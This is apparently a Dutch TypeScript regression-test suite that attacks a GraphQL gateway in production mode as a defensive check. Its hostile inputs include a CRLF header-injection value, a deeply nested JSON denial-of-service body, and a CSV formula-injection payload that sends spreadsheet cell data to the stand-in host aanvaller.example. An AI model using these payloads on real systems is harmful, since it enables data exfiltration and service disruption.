// De aanvallen van issue 20 op de stapel in productiemodus (NODE_ENV=production, API-sleutels,
// geen anoniem), elk als regressietest: wat ooit het proces liet vallen, de cache omzeilde
// of meer toeliet dan de rol, blijft zo een nette JSON-fout of een eerlijk antwoord.
import { parse as parseCsv } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { sha256 } from '../../gateway/toegang/identificatie.js';
import { leesOverzichten } from '../../gateway/overzichten/register.js';
import { logopvanger } from '../hulp/logopvanger.js';
import { testRedis } from '../hulp/redis.js';
import type { Rol } from '../../kern/identiteit.js';
import { gebruikStapel, inProductiemodus } from '../hulp/gebruik.js';

const SLEUTELS: Record<string, Rol[]> = {
  'partner-sleutel-aanval-0123456789': ['partner'],
  'analist-sleutel-aanval-0123456789': ['analist'],
  'beheer-sleutel-aanval-01234567890': ['beheer'],
  'redacteur-szw-sleutel-aanval-0123': ['redacteur:SZW'],
};
const [PARTNER, ANALIST, BEHEER, REDACTEUR_SZW] = Object.keys(SLEUTELS);
const sleutel = (s: string) => ({ 'x-api-key': s });

type Fout = { message: string; extensions?: Record<string, unknown> };

// Met Redis, zoals in productie: dan staat de antwoordcache aan.
const redis = await testRedis();

describe('aanvallen op de stapel in productiemodus', () => {
  const log = logopvanger();
  inProductiemodus();
  const stapel = gebruikStapel('sqlite', {
    redis,
    logbestemming: log.stroom,
    toegang: {
      modus: 'productie',
      anoniem: null,
      apiSleutels: new Map(Object.entries(SLEUTELS).map(([s, rollen]) => [sha256(s), { naam: `sleutel-${rollen[0]}`, rollen }])),
    },
  });
  let basis: string;
  beforeAll(() => {
    basis = stapel.url.replace(/\/graphql$/, '');
  });

  const get = async (pad: string, headers: Record<string, string> = {}) => {
    const r = await fetch(basis + pad, { headers });
    const tekst = await r.text();
    return { status: r.status, headers: r.headers, tekst, json: () => JSON.parse(tekst) as { data?: unknown; errors?: Fout[] } };
  };
  const post = async (body: unknown, headers: Record<string, string>) => {
    const r = await fetch(stapel.url, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: typeof body === 'string' ? body : JSON.stringify(body) });
    return { status: r.status, ...((await r.json()) as { data?: Record<string, unknown>; errors?: Fout[] }) };
  };
  const gezond = async () => (await post({ query: '{ aandachtsgroepen { code } }' }, sleutel(ANALIST))).status;

  it.each([
    ['/overzichten/toezeggingen?uiterlijk=%E2%82%AC&formaat=csv', {}],
    ['/overzichten/toezeggingen?eigenaar=%E2%82%AC&formaat=csv', {}],
    ['/overzichten/toezeggingen?uiterlijk=%E2%82%AC', { accept: 'text/csv' }],
    ['/overzichten/toezeggingen?uiterlijk=%0D%0Ax-kop:%20ja&formaat=csv', {}],
  ])('een partner-GET met een niet-ASCII-waarde (%s) is een 400 in JSON, en de gateway blijft antwoorden', async (pad, extra) => {
    const r = await get(pad, { ...sleutel(PARTNER), ...extra });
    expect(r.status).toBe(400);
    expect(r.headers.get('content-type')).toMatch(/application\/json/);
    expect(r.json().errors?.[0].extensions?.code).toBe('BAD_USER_INPUT');
    expect(r.headers.get('x-kop')).toBeNull();
    expect(await gezond()).toBe(200);
  });

  it('een interne fout of ongeldige kop laat het proces niet vallen en logt geen stacktrace naar de client', async () => {
    const r = await get('/overzichten/%E2%82%AC%00?formaat=%E2%82%AC', sleutel(PARTNER));
    expect(r.status).toBe(404);
    expect(r.tekst).not.toMatch(/at \w+ \(/);
    expect(await gezond()).toBe(200);
  });

  it('een rol die bijna bestaat (redacteur:SZW:extra) is geen analist', async () => {
    const { leesRol } = await import('../../kern/identiteit.js');
    expect(leesRol('redacteur:SZW:extra')).toBeUndefined();
    expect(leesRol('redacteur:SZW')).toBe('redacteur:SZW');
    expect(leesRol('redacteur:')).toBeUndefined();
  });

  it('twee verschillende bewijzen in één verzoek zijn een 400, ook als één ervan geldig is', async () => {
    const verlopen = await stapel.token(['partner'], { geldig: '-1m' });
    const r = await post({ query: '{ aandachtsgroepen { code } }' }, { ...sleutel(ANALIST), authorization: `Bearer ${verlopen}` });
    expect(r.status).toBe(400);
    expect(r.errors?.[0].extensions?.code).toBe('TWEE_IDENTITEITEN');
    // Dezelfde sleutel twee keer is geen tegenspraak.
    expect((await post({ query: '{ aandachtsgroepen { code } }' }, { ...sleutel(ANALIST), authorization: `Bearer ${ANALIST}` })).status).toBe(200);
  });

  it('/statistiek en /metrics zijn in productie alleen voor beheer', async () => {
    for (const pad of ['/statistiek', '/metrics']) {
      expect((await get(pad)).status).toBe(401);
      expect((await get(pad, sleutel(ANALIST))).status).toBe(403);
      expect((await get(pad, sleutel(BEHEER))).status).toBe(200);
    }
  });

  it.each([
    [ANALIST, 200],
    [BEHEER, 200],
    [REDACTEUR_SZW, 200],
    [PARTNER, 403],
  ])('introspectie in productie: %s krijgt %i', async (s, status) => {
    const r = await post({ query: '{ __schema { queryType { name } } }' }, sleutel(s));
    expect(r.status).toBe(status);
    if (status === 200) {
      expect(r.data).toEqual({ __schema: { queryType: { name: 'Query' } } });
      // Suggesties horen bij wie mag introspecteren.
      const tikfout = await post({ query: '{ aandachtsgroepen { naamm } }' }, sleutel(s));
      expect(tikfout.errors?.[0].message).toMatch(/Bedoelde je "naam"\?/);
    } else {
      expect(JSON.stringify(r.errors)).not.toMatch(/__schema.*queryType|Bedoelde je/);
    }
  });

  it('diep geneste JSON (400 kB haken) is een 400, geen 500, voor elke rol', async () => {
    const diep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    for (const [s, body] of [
      [PARTNER, `{"documentId":"aandachtsgroep","variables":{"code":${diep}}}`],
      [ANALIST, `{"query":"query($x: [Int]) { aandachtsgroepen { code } }","variables":{"x":${diep}}}`],
    ]) {
      const r = await post(body, sleutel(s));
      expect(r.status).toBe(400);
      expect(r.errors?.[0].extensions?.code).toBe('JSON_TE_DIEP');
    }
    expect(await gezond()).toBe(200);
  });

  it.skipIf(!redis)('een ongebruikte variabele of ander commentaar omzeilt de antwoordcache niet', async () => {
    const query = '{ aandachtsgroepen { code naam } }';
    await post({ query }, sleutel(ANALIST));
    const voor = stapel.subgraafverzoeken();
    for (let i = 0; i < 5; i++) {
      const r = await post({ query: `# ${Math.random()}\n${query}`, variables: { willekeurig: Math.random() } }, sleutel(ANALIST));
      expect(r.status).toBe(200);
    }
    expect(stapel.subgraafverzoeken() - voor).toBe(0);
  });

  it('een client die halverwege afbreekt, staat als zodanig in het logboek, zonder stacktrace', async () => {
    const afbreken = new AbortController();
    const bezig = fetch(stapel.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...sleutel(ANALIST) },
      body: new ReadableStream({
        start(stroom) {
          stroom.enqueue(new TextEncoder().encode('{"query": "{ aandachtsgroepen'));
          setTimeout(() => afbreken.abort(), 50);
        },
      }),
      signal: afbreken.signal,
      duplex: 'half',
    } as RequestInit).catch(() => undefined);
    await bezig;
    await new Promise((r) => setTimeout(r, 200));
    const regels = log.gelezen().filter((r) => r.proces === 'gateway');
    expect(regels.some((r) => r.msg === 'client brak het verzoek af')).toBe(true);
    expect(regels.filter((r) => r.level === 50)).toEqual([]);
    expect(await gezond()).toBe(200);
  });

  it('CSV van elk vastgelegd overzicht neutraliseert formules, ook in gegevens van een redacteur', async () => {
    const aanval = {
      departement: 'SZW',
      editie: '2026-01-01',
      cijfers: [
        {
          code: 'FORMULE',
          naam: '=HYPERLINK("http://aanvaller.example/?"&A2,"Klik")',
          eenheid: '@SUM(1+1)',
          aandachtsgroepen: ['DAK_EN_THUISLOZEN'],
          waarnemingen: [{ peildatum: 2020, waarde: 1, soort: 'SCHATTING', toelichting: '+1+1', bron: { document: '003_92de307edde85196.txt', vindplaats: '-2+3' } }],
        },
      ],
    };
    const publicatie = await fetch(`${basis}/edities/szw`, {
      method: 'POST',
      headers: { 'content-type': 'application/yaml', ...sleutel(REDACTEUR_SZW) },
      body: JSON.stringify(aanval),
    });
    expect(publicatie.status, await publicatie.clone().text()).toBe(201);
    let cellen = 0;
    for (const o of leesOverzichten().filter((o) => o.rijen)) {
      const standaard = Object.fromEntries(o.variabelen.filter((v) => v.type.endsWith('!') && v.standaard === undefined).map((v) => [v.naam, 'DAK_EN_THUISLOZEN']));
      const r = await get(`/overzichten/${o.id}?${new URLSearchParams({ ...standaard, formaat: 'csv' })}`, sleutel(PARTNER));
      expect(r.status, `${o.id}: ${r.tekst.slice(0, 200)}`).toBe(200);
      const rijen = parseCsv(r.tekst, { relax_column_count: true }) as string[][];
      for (const cel of rijen.flat()) {
        cellen++;
        // Een getal mag met - beginnen (een score); tekst nooit met een formuleteken.
        if (!Number.isFinite(Number(cel))) expect(cel, `${o.id}: ${cel}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const cijfers = await get('/overzichten/cijfers?formaat=csv', sleutel(PARTNER));
    expect(cijfers.tekst).toContain(`"'=HYPERLINK(""http://aanvaller.example/?""&A2,""Klik"")"`);
    expect(cijfers.tekst).toContain("'@SUM(1+1)");
    expect(cellen).toBeGreaterThan(1000);
  });
});
